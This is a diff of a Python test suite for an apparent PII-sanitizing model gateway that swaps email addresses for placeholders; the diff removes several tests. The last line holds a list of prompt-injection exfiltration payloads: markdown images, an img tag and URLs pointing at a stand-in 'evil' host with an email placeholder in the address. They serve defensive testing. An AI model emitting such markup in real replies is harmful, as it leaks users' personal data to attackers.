@@ -12,7 +12,6 @@ import pytest
 from tests.support import upstream as up
 from tests.support.asking import ask, ask_stream, said, send, toml
 from tests.support.gateways import InProcessGateway, StartGateway
-from tests.support.hosted_search import respond, round_of, scene, search
 from tests.support.messages_route import MODEL, raw_stream
 from tests.support.upstream import Exchange, Upstream
 
@@ -184,21 +183,6 @@ async def test_a_picture_at_an_injected_address_carries_nothing_out(
     assert choice["provider_specific_fields"]["sanitization"]["not_restored"] == {"EMAIL": 1}
 
 
-async def test_a_stored_response_keeps_placeholders_and_its_next_turn_the_values(
-    server: InProcessGateway, upstream: Upstream
-) -> None:
-    upstream.will(echo)
-    _, first, _ = await ask(server, "/v1/responses", input=SAID, messages=None)
-    again = {"input": f"and bob@posthaus.org or {MAIL}?", "previous_response_id": first["id"]}
-    _, second, _ = await ask(server, "/v1/responses", messages=None, **again)
-    assert second["output"][0]["content"][0]["text"] == f"You said: and bob@posthaus.org or {MAIL}?"
-    assert "[EMAIL_2]" in str(upstream.last.body) and MAIL not in str(upstream.last.body)
-    _, stored, _ = await send(server, f"/v1/responses/{first['id']}", method="GET")
-    assert stored["output"][0]["content"][0]["text"] == f"You said: {SAID}"
-    _, items, _ = await send(server, f"/v1/responses/{first['id']}/input_items", method="GET")
-    assert MAIL in str(items)
-
-
 async def agent(exchange: Exchange) -> None:
     """A model that sends a mail to whoever the last user names, then says so; it only knows what it was sent."""
     body = exchange.seen.body
@@ -264,31 +248,6 @@ async def test_six_turns_with_tool_calls_by_the_official_client_of_anthropic(
                 assert block.text == f"Sent to {mail}, well."
     await client.close()
     assert "@posthaus.org" not in str([each.body for each in upstream.seen])
-
-
-async def test_a_search_gets_the_placeholder_and_the_caller_the_value(start_gateway: StartGateway) -> None:
-    routes = "[sanitize]\nroutes = ['websearch', 'responses', 'chat']\nprofile = 'reversible'\n"
-    async with scene(start_gateway, routes) as found:
-        found.model.will(round_of(search("who is [EMAIL_1]")), round_of("I asked about [EMAIL_1]."))
-        response = await respond(found, input=f"Who is {MAIL}?")
-        assert found.provider.asked == ["who is [EMAIL_1]"]
-        assert MAIL not in str(found.sent)
-        assert response["output"][-1]["content"][0]["text"] == f"I asked about {MAIL}."
-
-
-async def test_a_compaction_carries_what_its_placeholders_stand_for(
-    server: InProcessGateway, upstream: Upstream
-) -> None:
-    upstream.will(up.answer(up.completion("The user's mail is [EMAIL_1].")), echo)
-    talk = [{"role": "user", "content": f"my mail is {MAIL}"}, {"role": "assistant", "content": "noted"}]
-    _, compacted, _ = await ask(server, "/v1/responses/compact", input=talk)
-    assert MAIL not in str(compacted["output"][-1])
-    new = {"role": "user", "content": "write to [EMAIL_1] and other@posthaus.org"}
-    _, data, _ = await ask(server, "/v1/responses", input=[compacted["output"][-1], new], store=False)
-    said_back = data["output"][0]["content"][0]["text"]
-    assert said_back == f"You said: write to {MAIL} and other@posthaus.org"
-    sent = str(upstream.last.body["messages"])
-    assert "[EMAIL_1]" in sent and "[EMAIL_2]" in sent and MAIL not in sent and "other@posthaus" not in sent
 
 
 ADDRESSES = "![x](http:/evil/[EMAIL_1]) <img src='\\\\evil/[EMAIL_1]'> https://[EMAIL_1]@evil/ but //server/[EMAIL_1]/"
